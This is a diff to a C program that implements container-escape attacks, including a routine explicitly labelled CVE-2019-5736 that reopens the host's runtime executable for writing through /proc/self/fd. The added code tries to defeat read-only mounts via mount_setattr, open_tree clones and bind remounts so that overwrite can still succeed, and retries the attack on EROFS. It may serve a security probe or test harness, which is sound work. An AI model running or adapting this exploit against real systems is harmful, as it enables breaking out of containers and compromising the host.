@@ -24,6 +24,7 @@
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -118,11 +119,39 @@ static int escape(char** a) {
     return 0;
 }
 
+// A mount that is only read-only by a flag can be made writable by who may mount, or bound anew without the
+// flag.
+static void try_to_lift_read_only(int fd) {
+    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
+    char path[64];
+    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
+        printf("lifted=setattr\n");
+    int tree = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
+    if (tree >= 0) {
+        printf("lifted=open_tree\n");
+        syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof writable);
+        dup2(tree, fd);
+        close(tree);
+    }
+    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    int place = open("/tmp/bound", O_CREAT | O_RDONLY | O_CLOEXEC, 0600);
+    if (place >= 0) close(place);
+    if (mount(path, "/tmp/bound", NULL, MS_BIND, NULL) == 0) {
+        printf("lifted=bind\n");
+        mount(NULL, "/tmp/bound", NULL, MS_REMOUNT | MS_BIND, NULL);
+        int bound = open("/tmp/bound", O_RDONLY | O_CLOEXEC);
+        if (bound >= 0) {
+            dup2(bound, fd);
+            close(bound);
+        }
+    }
+}
+
 // CVE-2019-5736. The descriptor is opened for reading while the program runs (no ETXTBSY), kept, and reopened
 // for writing through /proc/self/fd once the last process that executes the file is gone.
 static int steal_exe(char** a) {
     unsigned long long dev = strtoull(a[0], NULL, 10), ino = strtoull(a[1], NULL, 10);
-    int kept = -1, last_errno = 0;
+    int kept = -1, last_errno = 0, lifted = 0;
     pid_t self = getpid();
     watch_for(a[2]);
     while (kept < 0 && now_ms() < deadline) {
@@ -165,6 +194,11 @@ static int steal_exe(char** a) {
         if (fd >= 0) close(fd);
         while (waitpid(-1, NULL, WNOHANG) > 0) {
         }
+        if (last_errno == EROFS && !lifted) {
+            try_to_lift_read_only(kept);
+            lifted = 1;
+            continue;
+        }
         if (last_errno != ETXTBSY) break;
         usleep(1000);
     }
@@ -172,9 +206,9 @@ static int steal_exe(char** a) {
     return 0;
 }
 
-// Whether `pid` runs a file of this container's root file system. Unreadable or gone counts as yes: nothing was
-// learned.
-static int runs_own_program(pid_t pid, char *link, size_t size) {
+// Whether `pid` runs a file of this container's root file system. Unreadable or gone counts as yes: nothing
+// was learned.
+static int runs_own_program(pid_t pid, char* link, size_t size) {
     char path[64];
     snprintf(path, sizeof path, "/proc/%d/exe", pid);
     struct stat theirs, named;
